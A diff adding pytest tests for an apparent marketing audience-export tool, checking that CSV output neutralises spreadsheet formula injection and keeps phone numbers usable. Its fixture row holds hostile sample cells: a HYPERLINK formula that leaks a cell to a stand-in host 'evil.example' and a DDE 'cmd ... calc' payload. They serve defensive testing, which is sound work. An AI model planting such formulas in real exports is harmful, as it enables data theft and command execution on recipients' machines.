@@ -1,0 +1,136 @@
+"""Forget means forget, and nothing leaves after a bad build.
+
+- audience CSV files cannot carry spreadsheet formulas (segmart/outputs);
+- the audience folder holds only this build's files (segmart/run.py);
+- publish refuses schemas and tables with personal data (segmart/publish.py);
+- a mapping's source stays inside the exports folder (segmart/adapters/mapping.py).
+"""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pytest
+
+from segmart.outputs import FORMATS, HASHED_FORMATS, write_audience
+
+# --- 1. spreadsheet formula injection -----------------------------------------------
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+EVIL_ROW = {
+    "email": "ada@example.com",
+    "phone": "+1 415 555 0123",
+    "first_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "last_name": "+SUM(1,2)",
+    "country": "US",
+    "segment_name": "@evil_segment",
+    "offer_hint": "-10% cmd|' /C calc'!A0",
+}
+
+
+def read_rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        reader = csv.DictReader(handle)
+        return list(reader.fieldnames or []), list(reader)
+
+
+def starts_with_trigger(value: str) -> bool:
+    return value.startswith(TRIGGERS)
+
+
+@pytest.mark.parametrize("fmt", sorted(FORMATS))
+def test_free_text_cells_are_neutralised_and_phones_stay_e164(tmp_path, fmt):
+    path = tmp_path / f"{fmt}.csv"
+    built = write_audience([EVIL_ROW], fmt, path)
+    header, rows = read_rows(path)
+    assert len(rows) == 1, built.skipped
+    (row,) = rows
+    for column, value in row.items():
+        if "phone" in column.lower() and fmt not in HASHED_FORMATS:
+            assert value == "+14155550123", (column, value)  # usable E.164, as is
+        else:
+            assert not starts_with_trigger(value), (fmt, column, value)
+    if fmt in HASHED_FORMATS:
+        return
+    first = next(c for c in header if c == "First Name")
+    assert row[first] == "'" + EVIL_ROW["first_name"]
+    assert row["Last Name"] == "'+SUM(1,2)"
+    segment_column = {"klaviyo": "segmart_segment", "hubspot": "segmart_segment"}
+    assert row[segment_column.get(fmt, "Tags")] == "'@evil_segment"
+    offer_column = {"mailchimp": "Offer Hint", "activecampaign": "Offer Hint"}
+    assert row[offer_column.get(fmt, "segmart_offer_hint")] == (
+        "'" + EVIL_ROW["offer_hint"]
+    )
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_every_owasp_trigger_is_neutralised(tmp_path, trigger):
+    # a tab or carriage return inside the value (leading whitespace is trimmed)
+    row = {**EVIL_ROW, "offer_hint": f"{trigger}cmd", "first_name": f"x{trigger}"}
+    path = tmp_path / "k.csv"
+    write_audience([row], "klaviyo", path)
+    _, (written,) = read_rows(path)
+    expected = "'" + f"{trigger}cmd" if trigger not in "\t\r" else "cmd"
+    assert written["segmart_offer_hint"] == expected
+    assert written["First Name"] == f"x{trigger}".strip()  # not at the start: as is
+
+
+def test_neutralise_keeps_ordinary_text_hashes_and_phones():
+    from segmart.outputs import is_e164, neutralise
+
+    assert neutralise("early access") == "early access"
+    assert neutralise("10% off") == "10% off"
+    assert neutralise("a" * 64) == "a" * 64
+    for trigger in TRIGGERS:
+        assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"
+    assert is_e164("+15551234567")
+    assert not is_e164("+1 555 123")
+    assert not is_e164("=1+15551234567")
+    assert not is_e164("15551234567")
+
+
+def test_emails_starting_with_a_formula_character_are_left_out(tmp_path):
+    rows = [
+        {**EVIL_ROW, "email": "=1+1@evil.example", "phone": ""},
+        {**EVIL_ROW, "email": "-cmd@evil.example"},  # has a phone: kept, no email
+        {**EVIL_ROW, "email": "ok@example.com"},
+    ]
+    built = write_audience(rows, "klaviyo", tmp_path / "k.csv")
+    _, written = read_rows(tmp_path / "k.csv")
+    assert [r["Email"] for r in written] == ["", "ok@example.com"]
+    assert written[0]["Phone Number"] == "+14155550123"
+    assert dict(built.skipped) == {"email_starts_with_formula_character": 1}
+    assert built.emails_dropped == 1  # written without it; the other is skipped
+    mailchimp = write_audience(rows, "mailchimp", tmp_path / "m.csv")
+    _, written = read_rows(tmp_path / "m.csv")
+    assert [r["Email Address"] for r in written] == ["ok@example.com"]
+    assert dict(mailchimp.skipped) == {"email_starts_with_formula_character": 2}
+    # the hashed files hash it as normalised: a hash is never a formula
+    meta = write_audience(rows, "meta", tmp_path / "meta.csv")
+    assert len(meta.rows) == 3
+
+
+def test_audience_export_command_writes_no_formula(tmp_path):
+    from click.testing import CliRunner
+
+    from segmart.cli import main as cli
+
+    source = tmp_path / "audience.csv"
+    with source.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(EVIL_ROW))
+        writer.writeheader()
+        writer.writerow(EVIL_ROW)
+    out = tmp_path / "out.csv"
+    result = CliRunner().invoke(
+        cli,
+        ["audience-export", "--format", "hubspot", "--input", str(source)]
+        + ["--out", str(out)],
+    )
+    assert result.exit_code == 0, result.output
+    _, (row,) = read_rows(out)
+    assert row["Phone Number"] == "+14155550123"
+    assert all(
+        not starts_with_trigger(v) for k, v in row.items() if k != "Phone Number"
+    )
